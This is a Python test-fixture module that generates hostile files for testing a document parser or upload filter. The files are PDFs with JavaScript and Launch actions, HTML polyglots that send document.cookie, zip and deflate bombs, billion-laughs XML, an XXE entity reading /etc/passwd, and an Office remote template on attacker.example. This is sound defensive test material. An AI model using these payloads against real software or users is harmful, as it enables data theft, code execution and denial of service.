"""Hostile files, built by the tests themselves in milliseconds: active PDFs,
polyglots, decompression bombs, office zip bombs, XML with a DTD.

Nothing here is read from disk or the network; a "1 GiB" bomb is a few
hundred kilobytes of repeated deflate blocks, never the gigabyte itself.
"""

import io
import struct
import zipfile
import zlib

MiB = 1024 * 1024
GiB = 1024 * MiB

# PDF: written by hand, so that each test says exactly what the file holds.

CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s>>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources %s /Contents 4 0 R %s>>"
FONT = b"<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
TEXT = b"BT /F1 12 Tf 72 720 Td (A letter) Tj ET"


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (
        len(data),
        dictionary,
        data,
    )


def raw_pdf(
    objects: list[bytes],
    *,
    header: bytes = b"%PDF-1.7\n",
    unlisted: list[bytes] = (),
) -> bytes:
    """Objects 1, 2, ... with a correct cross-reference table; object 1 is
    the catalog. ``unlisted`` objects follow, numbered on, in no table: only
    a reader that repairs the file by scanning it finds them."""
    out = bytearray(header + b"%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    for number, body in enumerate(unlisted, start=len(objects) + 1):
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        start,
    )
    return bytes(out)


def one_page_pdf(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    media_box: bytes = b"[0 0 595 842]",
    resources: bytes = FONT,
    content: bytes | None = None,
    more: list[bytes] = (),
    header: bytes = b"%PDF-1.7\n",
    unlisted: list[bytes] = (),
) -> bytes:
    """A one-page letter; ``more`` are objects 5, 6, ... that the catalog or
    the page may name."""
    return raw_pdf(
        [
            CATALOG % catalog,
            PAGES,
            PAGE % (media_box, resources, page),
            content if content is not None else stream(TEXT),
            *more,
        ],
        header=header,
        unlisted=unlisted,
    )


JS = b"<< /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>"

# name -> a PDF with that kind of active content
ACTIVE_PDFS = {
    "open-action-javascript": one_page_pdf(catalog=b"/OpenAction 5 0 R ", more=[JS]),
    "javascript-name-tree": one_page_pdf(
        catalog=b"/Names << /JavaScript << /Names [(run) 5 0 R] >> >> ", more=[JS]
    ),
    "launch-action": one_page_pdf(
        catalog=b"/OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> "
    ),
    "launch-link": one_page_pdf(
        page=b"/Annots [5 0 R] ",
        more=[
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] "
            b"/A << /S /Launch /F (C:\\\\Windows\\\\calc.exe) >> >>"
        ],
    ),
    "embedded-file": one_page_pdf(
        catalog=b"/Names << /EmbeddedFiles << /Names [(invoice.exe) 5 0 R] >> >> ",
        more=[
            b"<< /Type /Filespec /F (invoice.exe) /EF << /F 6 0 R >> >>",
            stream(b"MZ\x90\x00 an executable", b"/Type /EmbeddedFile "),
        ],
    ),
    "file-attachment-annotation": one_page_pdf(
        page=b"/Annots [5 0 R] ",
        more=[
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 6 0 R >>",
            b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>",
            stream(b"MZ\x90\x00", b"/Type /EmbeddedFile "),
        ],
    ),
    "page-additional-action": one_page_pdf(page=b"/AA << /O 5 0 R >> ", more=[JS]),
    "catalog-additional-action": one_page_pdf(
        catalog=b"/AA << /WC 5 0 R >> ", more=[JS]
    ),
    "form-field-script": one_page_pdf(
        catalog=b"/AcroForm << /Fields [5 0 R] >> ",
        page=b"/Annots [5 0 R] ",
        more=[
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (date) /Rect [0 0 9 9] "
            b"/AA << /K 6 0 R >> >>",
            JS,
        ],
    ),
    "name-spelled-with-hex-escapes": one_page_pdf(
        catalog=b"/OpenAction << /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >> "
    ),
    "submit-form": one_page_pdf(
        catalog=b"/OpenAction << /S /SubmitForm "
        b"/F << /FS /URL /F (http://x.example/) >> >> "
    ),
    "remote-go-to": one_page_pdf(
        catalog=b"/OpenAction << /S /GoToR "
        b"/F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >> "
    ),
    "javascript-uri": one_page_pdf(
        catalog=b"/OpenAction << /S /URI /URI (javascript:alert\\(1\\)) >> "
    ),
}

# A link to a web site and an opening view are navigation, not active content.
HARMLESS_PDF = one_page_pdf(
    catalog=b"/OpenAction [3 0 R /Fit] /PageMode /UseNone ",
    page=b"/Annots [5 0 R] ",
    more=[
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] "
        b"/A << /S /URI /URI (https://edu.gov.kg/) >> >>"
    ],
)

# The %PDF- header in front of a web page: a browser that is told (or guesses)
# it is HTML runs the script.
HTML_POLYGLOT = one_page_pdf(
    header=b"%PDF-1.7\n%<html><body><script>fetch('/x?'+document.cookie)"
    b"</script></body></html>\n"
)
HTML_AFTER_EOF = one_page_pdf() + b"<html><script>alert(1)</script></html>\n"


def zip_appended_pdf() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("run.js", "WScript.Echo(1)")
    return one_page_pdf() + out.getvalue()


def deflated_run(
    size: int, *, fill: bytes = b"\0", prefix: bytes = b"", suffix: bytes = b""
) -> tuple[bytes, int, int]:
    """``prefix``, ``size`` bytes of ``fill``, ``suffix``: raw deflate, its
    CRC-32 and its Adler-32, in milliseconds. One MiB of fill is compressed
    once and the block repeated (a full flush makes the blocks independent)."""
    block = bytes(fill) * MiB
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    chunk = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.compress(suffix) + compressor.flush(zlib.Z_FINISH)
    crc, adler = zlib.crc32(prefix), zlib.adler32(prefix)
    for _ in range(size // MiB):
        crc, adler = zlib.crc32(block, crc), zlib.adler32(block, adler)
    crc, adler = zlib.crc32(suffix, crc), zlib.adler32(suffix, adler)
    return head + chunk * (size // MiB) + tail, crc, adler


def zlib_run(size: int, **kwargs) -> bytes:
    body, _crc, adler = deflated_run(size, **kwargs)
    return b"\x78\xda" + body + struct.pack(">I", adler)


def flate_bomb_pdf(size: int = GiB) -> bytes:
    """A page whose content stream inflates to ``size`` bytes."""
    return one_page_pdf(content=stream(zlib_run(size), b"/Filter /FlateDecode "))


def many_pages_pdf(pages: int, *, declared: int | None = None) -> bytes:
    """``pages`` pages in one flat page tree; ``declared`` is the /Count it
    claims (a lying tree says 1)."""
    kids = b" ".join(b"%d 0 R" % (4 + n) for n in range(pages))
    objects = [
        CATALOG % b"",
        b"<< /Type /Pages /Kids [%s] /Count %d >>"
        % (kids, pages if declared is None else declared),
        stream(TEXT),
    ]
    objects += [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> "
        b"/Contents 3 0 R >>"
    ] * pages
    return raw_pdf(objects)


BROKEN_MEDIA_BOXES = {
    "a-name-inside": b"[0 0 /A4 842]",
    "a-string": b"(A4)",
    "three-numbers": b"[0 0 595]",
    "empty": b"[0 0 0 0]",
    "astronomical": b"[0 0 1e300 1e300]",
    "a-reference-to-itself": b"3 0 R",
}

# Office files.

DOCX_PARTS = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        'content-types"/>'
    ),
    "word/document.xml": (
        '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://'
        'schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>'
        "<w:r><w:t>Буйрук</w:t></w:r></w:p></w:body></w:document>"
    ),
}


def docx(parts: dict[str, str | bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {**DOCX_PARTS, **(parts or {})}.items():
            archive.writestr(name, content)
    return out.getvalue()


def zip_with_bomb(
    parts: dict[str, str | bytes],
    *,
    bomb_name: str,
    size: int,
    declared: int | None = None,
    **run,
) -> bytes:
    """An office zip with one more entry, ``bomb_name``: ``size`` bytes of a
    run (see deflated_run) whose directory says it is ``declared`` bytes (a
    liar says little)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    data = bytearray(out.getvalue())
    # Replace the end of central directory with our entry and a new one.
    end = data.rindex(b"PK\x05\x06")
    count, directory_size, directory_offset = struct.unpack(
        "<HII", data[end + 10 : end + 20]
    )
    directory = bytes(data[directory_offset : directory_offset + directory_size])
    del data[directory_offset:]
    body, crc, _adler = deflated_run(size, **run)
    total = size + len(run.get("prefix", b"")) + len(run.get("suffix", b""))
    declared = total if declared is None else declared
    name = bomb_name.encode()
    local_offset = len(data)
    # Sizes above 4 GiB would need zip64; the bombs here stay below.
    data += struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(body), declared,
        len(name), 0,
    ) + name + body  # fmt: skip
    directory += struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(body),
        declared, len(name), 0, 0, 0, 0, 0, local_offset,
    ) + name  # fmt: skip
    new_offset = len(data)
    data += directory
    data += struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, count + 1, count + 1, len(directory),
        new_offset, 0,
    )  # fmt: skip
    return bytes(data)


def docx_bomb(size: int = GiB, *, declared: int | None = None) -> bytes:
    """A DOCX whose picture is ``size`` zero bytes in well under a megabyte."""
    return zip_with_bomb(
        DOCX_PARTS,
        bomb_name="word/media/image1.png",
        size=size,
        declared=declared,
    )


def xlsx(rows: list[list], **replace: str | bytes) -> bytes:
    """An XLSX made by openpyxl, with some of its parts replaced."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    if not replace:
        return out.getvalue()
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    result = io.BytesIO()
    with zipfile.ZipFile(result, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(
                info.filename, replace.get(info.filename) or source.read(info)
            )
        for name, content in replace.items():
            if name not in source.namelist():
                archive.writestr(name, content)
    return result.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
SHEET_XML = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    "<sheetData>%s</sheetData></worksheet>"
)
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE worksheet [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)
    )
    + "]>"
    + SHEET_XML % '<row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row>'
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + SHEET_XML
    % '<row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>'
)


def xlsx_whitespace_bomb(size: int = 256 * MiB) -> bytes:
    """A class list whose sheet is ``size`` bytes of spaces between two rows,
    a few hundred kilobytes on the wire."""
    parts = {
        info.filename: content
        for info, content in _parts(xlsx([["last name", "first name", "role"]]))
        if info.filename != SHEET
    }
    return zip_with_bomb(
        parts,
        bomb_name=SHEET,
        size=size,
        fill=b" ",
        prefix=SHEET_XML.split("%s")[0].encode(),
        suffix=SHEET_XML.split("%s")[1].encode(),
    )


def _parts(data: bytes):
    archive = zipfile.ZipFile(io.BytesIO(data))
    return [(info, archive.read(info)) for info in archive.infolist()]


def object_stream_bomb_pdf(size: int = GiB) -> bytes:
    """The catalog's /OpenAction is object 5, kept in object stream 6 whose
    data inflates to ``size`` bytes: a reader has to unpack it all to find it."""
    body, _crc, adler = deflated_run(size, prefix=b"5 0 " + JS)
    packed = b"\x78\xda" + body + struct.pack(">I", adler)
    objects = {
        1: CATALOG % b"/OpenAction 5 0 R ",
        2: PAGES,
        3: PAGE % (b"[0 0 595 842]", FONT, b""),
        4: stream(TEXT),
        6: stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode "),
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[7] = len(out)
    rows = b"".join(
        struct.pack(">BIH", 0, 0, 65535)
        if number == 0
        else struct.pack(">BIH", 2, 6, 0)
        if number == 5
        else struct.pack(">BIH", 1, offsets[number], 0)
        for number in range(8)
    )
    out += b"7 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        stream(rows, b"/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R "),
        offsets[7],
    )
    return bytes(out)


def missing_objects_pdf(count: int = 5000) -> bytes:
    """A page whose resources name ``count`` objects the file does not have,
    with 20 MB after them: pypdf searched the whole file for each."""
    names = b" ".join(b"/X%d %d 0 R" % (n, 100_000 + n) for n in range(count))
    return one_page_pdf(
        resources=b"<< /XObject << %s >> >>" % names,
        more=[stream(b"%" + b"x" * 20_000_000)],
    )


PNG = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + bytes(17)
PNG_WITH_HTML = PNG + b"<html><script>alert(document.cookie)</script></html>"


def jpeg_with_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("run.js", "WScript.Echo(1)")
    return b"\xff\xd8\xff\xe0" + bytes(100) + b"\xff\xd9" + out.getvalue()


OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
# A legacy Word file's directory naming its VBA project.
DOC_WITH_MACROS = (
    OLE_HEADER + bytes(504) + "Macros".encode("utf-16-le") + bytes(54)
    + "_VBA_PROJECT".encode("utf-16-le") + bytes(40)
)  # fmt: skip


def odt(parts: dict[str, str | bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "mimetype",
            "application/vnd.oasis.opendocument.text",
            compress_type=zipfile.ZIP_STORED,
        )
        archive.writestr(
            "content.xml",
            '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
        )
        for name, content in (parts or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


REMOTE_TEMPLATE = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
    'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://attacker.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)
WEB_LINK = REMOTE_TEMPLATE.replace("attachedTemplate", "hyperlink")
